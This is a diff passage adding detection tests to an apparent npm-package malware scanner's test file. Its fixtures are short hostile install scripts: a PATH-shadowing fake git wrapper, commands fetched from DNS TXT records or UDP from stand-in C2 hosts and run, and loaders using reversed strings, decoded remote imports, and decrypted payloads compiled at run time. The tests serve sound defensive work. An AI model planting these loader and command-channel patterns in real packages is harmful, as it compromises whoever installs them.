@@ -2206,6 +2206,97 @@ https.get('https://releases.example.com/tool-1.2.3.tgz', (res) => { res.pipe(tar
   });
 });
 
+describe('a command shadowed on PATH by install-time code', () => {
+  it('a git wrapper written into the npm prefix bin folder runs before the real git', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { postinstall: 'node setup.js' } }),
+      'setup.js': `const fs = require('fs'); const path = require('path');
+const globalBin = path.join(process.env.npm_config_prefix || '/usr/local', 'bin');
+fs.writeFileSync(path.join(globalBin, 'git'), '#!/bin/sh\\nnode ' + __dirname + '/g.js "$@" &\\nexec /usr/bin/git "$@"\\n', { mode: 0o755 });`,
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(threatsOf(r)).toContain('install_script_injection');
+  });
+  it('a node binary placed in its own bin folder, and a tool of its own name on PATH, are installers', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { postinstall: 'node setup.js' } }),
+      'setup.js': `const fs = require('fs'), path = require('path');
+fs.writeFileSync(path.join(__dirname, 'bin', 'node'), 'x', { mode: 0o755 });
+fs.writeFileSync('/usr/local/bin/fixture-tool', '#!/bin/sh\\nexec node ' + __dirname + '/cli.js "$@"\\n');`,
+    });
+    expect(threatsOf(r)).toEqual([]);
+  });
+});
+
+describe('commands received over DNS and UDP', () => {
+  const install = (code: string) =>
+    analyzeSource({ 'package.json': pkg({ scripts: { postinstall: 'node setup.js' } }), 'setup.js': code });
+  it('TXT records decoded and run (callback and promise forms), a UDP socket whose messages are run', () => {
+    for (const code of [
+      `const dns = require('dns'); const { execSync } = require('child_process');
+dns.resolveTxt('cmd.example-c2.org', (err, recs) => { if (!err) for (const r of recs) execSync(Buffer.from(r.join(''), 'base64').toString()); });`,
+      `const dns = require('dns'); const { execSync } = require('child_process');
+(async () => { const r = await dns.promises.resolveTxt('c.example-c2.org'); execSync(r.flat().join('')); })();`,
+      `const dgram = require('dgram'); const { exec } = require('child_process');
+const s = dgram.createSocket('udp4');
+s.on('message', (msg, rinfo) => exec(String(msg), (e, o) => s.send(String(o), rinfo.port, rinfo.address)));
+s.send('hello', 53, '198.51.100.7');`,
+    ]) {
+      const r = install(code);
+      expect(r.risk_level).toBe('critical');
+      expect(threatsOf(r)).toContain('install_script_injection');
+    }
+  });
+  it('a resolver that connects to the address it looked up, and a UDP echo that logs, run nothing', () => {
+    for (const code of [
+      `const dns = require('dns'); const net = require('net');
+module.exports = (host, port) => dns.lookup(host, (err, address) => net.connect(port, address));`,
+      `const dgram = require('dgram'); const s = dgram.createSocket('udp4');
+s.on('message', (msg) => console.log('got', msg.length)); module.exports = s;`,
+    ])
+      expect(threatsOf(analyzeSource({ 'package.json': pkg(), 'index.js': code }))).toEqual([]);
+  });
+});
+
+describe('loaders: a string written backwards, a decoded import address, _compile through call', () => {
+  const install = (files: Record<string, string>) =>
+    analyzeSource({ 'package.json': pkg({ scripts: { postinstall: 'node setup.js' } }), ...files });
+  it('code reversed character by character and evaluated', () => {
+    const r = install({
+      'setup.js': `const s = ")'di'(cnySexe.)'ssecorp_dlihc'(eriuqer";
+const code = s.split('').reverse().join('');
+eval(code);`,
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(threatsOf(r)).toContain('malicious_code');
+  });
+  it('import() of a remote address decoded at run time', () => {
+    const r = install({
+      'setup.js': `const u = atob('aHR0cHM6Ly9jZG4uZXhhbXBsZS1wa2cubmV0L20uanM='); import(u).then((m) => m.default());`,
+    });
+    expect(r.risk_level).toBe('critical');
+  });
+  it('a decrypted shipped file compiled through Module.prototype._compile.call', () => {
+    const r = install({
+      'setup.js': `const crypto = require('crypto'); const fs = require('fs');
+const enc = fs.readFileSync(__dirname + '/payload.dat');
+const d = crypto.createDecipheriv('aes-256-cbc', 'k', enc.subarray(0, 16));
+const code = d.update(enc) + d.final();
+module.constructor.prototype._compile.call(new module.constructor(), code, 'm.js');`,
+      'payload.dat': 'AAAA',
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(threatsOf(r)).toContain('malicious_code');
+  });
+  it('a palindrome helper, and an import of a written address, are not loaders', () => {
+    for (const code of [
+      `exports.isPalindrome = (s) => s.split('').reverse().join('') === s;`,
+      `exports.load = () => import('https://cdn.example-widgets.com/widget.mjs');`,
+    ])
+      expect(threatsOf(analyzeSource({ 'package.json': pkg(), 'index.js': code }))).toEqual([]);
+  });
+});
+
 describe('two samples rewritten as an attacker would', () => {
   it('the terminal flood moved into a helper file the entry requires, its text in a config object, do … while (1)', () => {
     const r = analyzeSource({
